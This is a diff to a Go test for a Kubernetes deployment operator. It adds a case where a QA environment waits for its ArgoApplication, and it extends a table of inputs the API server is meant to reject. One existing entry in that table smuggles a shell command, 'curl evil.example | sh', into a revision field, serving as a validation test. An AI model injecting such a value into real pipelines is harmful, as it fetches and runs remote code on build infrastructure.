@@ -298,12 +298,31 @@ func TestDeployRun(t *testing.T) {
 		t.Errorf("after failures and another namespace's deployment the pipeline records %+v, want first the last succeeded", x)
 	}
 
+	// An environment whose pipeline an ArgoApplication deploys (as a
+	// DevOpsProject composes it) waits for it: the build alone is never
+	// taken for the deployment.
+	qa := p.DeepCopy()
+	qa.ObjectMeta = metav1.ObjectMeta{Name: "shop-qa", Namespace: ns, Labels: map[string]string{contract.LabelProject: "shop", contract.LabelEnvironment: "qa"},
+		Annotations: map[string]string{contract.AnnotationDeployedBy: "ArgoApplication"}}
+	qa.Status = jenkinsv1alpha1.JenkinsPipelineStatus{}
+	envtest.Must(t, c.Create(ctx, qa))
+	qaRun := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "qa", Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "qa"}}
+	envtest.Must(t, c.Create(ctx, qaRun))
+	envtest.Eventually(t, "qa waits for its ArgoApplication", func() bool {
+		return strings.Contains(get(qaRun).Status.Message, "waiting for the environment's ArgoApplication")
+	})
+	if d := get(qaRun); d.Status.Phase != v1alpha1.DeployPending || jenkins.Queued("shop-qa")+len(jenkins.Builds("shop-qa")) != 0 {
+		t.Errorf("qa: %s, %d queued, %d built; want Pending and nothing built", d.Status.Phase, jenkins.Queued("shop-qa"), len(jenkins.Builds("shop-qa")))
+	}
+	envtest.Must(t, c.Delete(ctx, qaRun))
+
 	// 6. Bad input the API server refuses.
 	for name, spec := range map[string]v1alpha1.DeployRunSpec{
 		"shell":      {Project: "shop", Environment: "dev", Revision: "main; curl evil.example | sh"},
 		"dotdot":     {Project: "shop", Environment: "dev", Revision: "a/../b"},
 		"revparam":   {Project: "shop", Environment: "dev", Parameters: map[string]string{"REVISION": "x"}},
 		"badproject": {Project: "Shop!", Environment: "dev"},
+		"longparam":  {Project: "shop", Environment: "dev", Parameters: map[string]string{"NOTES": strings.Repeat("x", 5000)}},
 		// A duration no client could decode would break every typed
 		// list of DeployRuns, every namespace's.
 		"forever": {Project: "shop", Environment: "dev", Timeouts: v1alpha1.DeployTimeouts{Build: &metav1.Duration{Duration: 400 * time.Hour}}},
